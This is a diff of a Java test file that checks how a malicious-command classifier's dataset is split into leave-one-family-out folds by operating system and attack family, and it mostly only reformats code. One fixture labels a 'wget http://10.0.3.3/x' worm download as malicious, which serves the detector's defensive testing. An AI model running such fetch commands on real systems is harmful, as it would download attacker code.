@@ -66,9 +66,7 @@ class FoldsTest {
     // Both families of each system: 300 for 60 attacks, so 100 for 20.
     assertThat(all(fold).systems())
         .extracting(Fold.OnSystem::os, Fold.OnSystem::attacks, Fold.OnSystem::benign)
-        .containsExactly(
-            tuple("linux", 60, 300),
-            tuple("windows", 20, 100));
+        .containsExactly(tuple("linux", 60, 300), tuple("windows", 20, 100));
   }
 
   @Test
@@ -95,8 +93,7 @@ class FoldsTest {
     row("wget http://10.0.3.3/x", Label.MALICIOUS, "linux", "worm");
     LeftOutFamilies families = families();
     assertThat(families.untested()).containsExactly(Map.entry("bot", 1));
-    Fold.Rest rest =
-        fold(families, "worm").without(set(), KnownLines.NONE, new HashMap<>());
+    Fold.Rest rest = fold(families, "worm").without(set(), KnownLines.NONE, new HashMap<>());
     assertThat(rest.ofTemplates()).isEqualTo(90);
     assertThat(lines(rest.set().rows())).noneMatch(line -> line.startsWith("wget http://10.0.0."));
   }
@@ -107,7 +104,8 @@ class FoldsTest {
     benign("wiki", "linux", 300);
     benign("shop", "linux", 200);
     row(line("worm", 1), Label.BENIGN, "linux", "wiki");
-    assertThat(lines(fold(families(), "worm").tests().get(Population.ALL).lines())).doesNotContain(line("worm", 1));
+    assertThat(lines(fold(families(), "worm").tests().get(Population.ALL).lines()))
+        .doesNotContain(line("worm", 1));
   }
 
   @Test
@@ -123,8 +121,7 @@ class FoldsTest {
     truth.add(new LabelledCommand("only known", Label.BENIGN, new Origin("", "wiki")));
     KnownLines known = KnownLines.of(truth);
     LabelledSet base = new LabelledSet("ab", rows);
-    Fold fold =
-        LeftOutFamilies.of(List.of(base), Augmentation.NONE, known).folds().get(0);
+    Fold fold = LeftOutFamilies.of(List.of(base), Augmentation.NONE, known).folds().get(0);
     assertThat(fold.leftOut()).containsExactly("shop", "wiki", "worm");
     // Its system is that of its family, which all other lines of the family have.
     assertThat(lines(all(fold).lines())).contains("only known");
@@ -143,7 +140,15 @@ class FoldsTest {
     rows.add(new LabelledCommand(mined, Label.BENIGN));
     TrainingSet set =
         new TrainingSet(
-            "ab+full", "ab", Arm.FULL, rows, 1, 0, 0, new TrainingSet.Overlap(0, 0), List.of(mined));
+            "ab+full",
+            "ab",
+            Arm.FULL,
+            rows,
+            1,
+            0,
+            0,
+            new TrainingSet.Overlap(0, 0),
+            List.of(mined));
     LeftOutFamilies families =
         LeftOutFamilies.of(
             List.of(new LabelledSet("ab", rows.subList(0, rows.size() - 1))),
